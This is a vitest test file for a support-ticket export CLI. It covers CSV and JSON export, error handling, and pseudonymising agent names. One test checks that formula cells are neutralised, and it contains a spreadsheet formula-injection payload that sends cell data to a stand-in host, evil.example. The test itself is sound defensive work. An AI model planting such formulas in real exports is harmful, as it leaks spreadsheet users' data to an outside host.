import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROJECT_ROOT, runCli } from '../helpers/cli';

describe('support-trends export', () => {
  let dir: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'st-export-'));
    env = { SUPPORT_TRENDS_DATA_DIR: path.join(dir, 'data'), SUPPORT_TRENDS_PSEUDONYM_KEY: 'a-test-secret-key' };
    const ingest = await runCli(['ingest', path.join(PROJECT_ROOT, 'test/fixtures/export/hostile-tickets.csv')], env);
    expect(ingest.code, ingest.stderr).toBe(0);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes every ticket with its topic columns, readable by a CSV parser', async () => {
    const out = path.join(dir, 'tickets.csv');
    const result = await runCli(['export', 'tickets', '--out', out], env);
    expect(result.code, result.stderr).toBe(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(5);
    expect(Object.keys(rows[0])).toEqual(expect.arrayContaining(['external_id', 'created_at', 'subject', 'topic_id', 'topic_label']));
    expect(rows.find((r) => r.external_id === '1')?.created_at).toBe('2026-03-02T10:00:00Z');
    expect(rows.find((r) => r.external_id === '5')?.description).toBe('Line one\nline two');
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const out = path.join(dir, 'tickets.csv');
    await runCli(['export', 'tickets', '--out', out], env);
    const subjects = (parse(readFileSync(out, 'utf8'), { columns: true, bom: true }) as Record<string, string>[]).map((r) => r.subject);
    for (const s of subjects.filter((x) => x !== 'Plain subject')) expect(s.startsWith("'")).toBe(true);
    expect(subjects).toContain(`'=HYPERLINK("http://evil.example/?x="&A1;"Click")`);
    expect(subjects).toContain('Plain subject');
  });

  it('exports JSON too, and refuses an unknown table with the list of tables', async () => {
    const json = await runCli(['export', 'topics', '--format', 'json'], env);
    expect(json.code, json.stderr).toBe(0);
    expect(Array.isArray(JSON.parse(json.stdout))).toBe(true);
    const wrong = await runCli(['export', 'customers'], env);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/tickets, topics, themes, releases, spikes, intermittent, team/);
  });

  it('pseudonymises agent names in the team export on request', async () => {
    const plain = await runCli(['export', 'team', '--format', 'json'], env);
    const hidden = await runCli(['export', 'team', '--format', 'json', '--pseudonymise'], env);
    expect(hidden.code, hidden.stderr).toBe(0);
    // Five agents make a team big enough for individual rows, so the plain export names them.
    expect(plain.stdout).toMatch(/"agent":"Ana Silva"/);
    expect(hidden.stdout).not.toMatch(/Ana Silva|Ben Okafor|Chen Wei|Dara Novak|Emil Sandberg/);
    expect(hidden.stdout).toMatch(/"agent":"Agent [0-9a-f]{4,}"/);
  });
});
